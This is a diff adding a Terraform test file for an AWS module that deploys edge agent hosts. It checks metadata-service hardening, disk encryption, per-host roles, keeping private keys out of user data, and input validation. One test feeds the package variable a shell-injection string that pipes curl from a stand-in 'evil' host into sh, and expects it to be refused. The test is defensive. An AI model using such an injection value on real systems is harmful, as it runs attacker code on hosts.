@@ -1,0 +1,153 @@
+mock_provider "aws" {
+  mock_data "aws_region" {
+    defaults = { name = "eu-central-1" }
+  }
+
+  mock_data "aws_caller_identity" {
+    defaults = { account_id = "123456789012" }
+  }
+
+  mock_data "aws_partition" {
+    defaults = { partition = "aws" }
+  }
+
+  mock_data "aws_subnet" {
+    defaults = { availability_zone = "eu-central-1a" }
+  }
+
+  mock_resource "aws_launch_template" {
+    defaults = { id = "lt-0123456789abcdef0" }
+  }
+
+  override_data {
+    target = data.aws_iam_policy_document.trust
+    values = { json = "{\"Version\":\"2012-10-17\",\"Statement\":[]}" }
+  }
+
+  override_data {
+    target = data.aws_iam_policy_document.certificate
+    values = { json = "{\"Version\":\"2012-10-17\",\"Statement\":[]}" }
+  }
+}
+
+variables {
+  name             = "edge"
+  vpc_id           = "vpc-1"
+  ami_id           = "ami-1"
+  certificate_path = "/foreshadow/edge"
+  controller_cidrs = ["10.0.9.0/24"]
+  hosts = {
+    edge-a = { subnet_id = "subnet-a", address = "10.0.1.11", capacity = { cpu = 2 }, groups = ["edge"] }
+    edge-b = { subnet_id = "subnet-b", instance_type = "c7i.large", labels = { tier = "fast" } }
+  }
+}
+
+run "hosts_are_told_as_the_inventory_reads_them" {
+  assert {
+    condition     = [for host in output.foreshadow_hosts : host.name] == ["edge-a", "edge-b"]
+    error_message = "the output does not list the hosts"
+  }
+
+  assert {
+    condition     = output.foreshadow_hosts[0].zone == "eu-central-1a" && output.foreshadow_hosts[0].port == 7443
+    error_message = "the output does not say where the agent is"
+  }
+
+  assert {
+    condition     = output.foreshadow_hosts[0].address == "10.0.1.11" && output.foreshadow_hosts[0].driver == "agent"
+    error_message = "the output has another address than the host"
+  }
+
+  assert {
+    condition     = output.foreshadow_hosts[1].labels == { instance_type = "c7i.large", tier = "fast" }
+    error_message = "the labels of a host are not told"
+  }
+
+  assert {
+    condition     = output.foreshadow_hosts[1].vars.aws_instance_id == output.instance_ids["edge-b"]
+    error_message = "the id of the instance is not told"
+  }
+}
+
+run "a_host_is_private_and_says_who_it_is" {
+  command = plan
+
+  assert {
+    condition     = aws_launch_template.host.metadata_options[0].http_tokens == "required"
+    error_message = "the metadata service answers without a session"
+  }
+
+  assert {
+    condition     = aws_launch_template.host.metadata_options[0].instance_metadata_tags == "enabled"
+    error_message = "user data cannot ask who it is"
+  }
+
+  assert {
+    condition     = aws_launch_template.host.block_device_mappings[0].ebs[0].encrypted == "true"
+    error_message = "the root volume is not encrypted"
+  }
+
+  assert {
+    condition     = aws_instance.host["edge-a"].tags["foreshadow-host"] == "edge-a"
+    error_message = "the instance does not bear its name"
+  }
+
+  assert {
+    condition     = length(aws_iam_role.host) == 2
+    error_message = "hosts share a role, so one could read the key of another"
+  }
+}
+
+run "user_data_fetches_the_certificate_and_carries_none" {
+  command = plan
+
+  assert {
+    condition     = strcontains(base64decode(aws_launch_template.host.user_data), "/foreshadow/edge/$1")
+    error_message = "user data does not fetch the certificate from where it is"
+  }
+
+  assert {
+    condition     = !strcontains(base64decode(aws_launch_template.host.user_data), "PRIVATE KEY")
+    error_message = "a key stands in user data, where everybody who may describe the instance can read it"
+  }
+}
+
+run "agents_are_not_for_the_whole_world" {
+  command = plan
+
+  variables {
+    controller_cidrs = ["0.0.0.0/0"]
+  }
+
+  expect_failures = [var.controller_cidrs]
+}
+
+run "a_package_is_no_shell" {
+  command = plan
+
+  variables {
+    package = "x'; curl evil | sh; '"
+  }
+
+  expect_failures = [var.package]
+}
+
+run "a_path_that_could_lead_elsewhere_is_refused" {
+  command = plan
+
+  variables {
+    certificate_path = "/foreshadow/*"
+  }
+
+  expect_failures = [var.certificate_path]
+}
+
+run "a_name_that_no_host_can_have_is_refused" {
+  command = plan
+
+  variables {
+    hosts = { "edge/a" = { subnet_id = "subnet-a" } }
+  }
+
+  expect_failures = [var.hosts]
+}
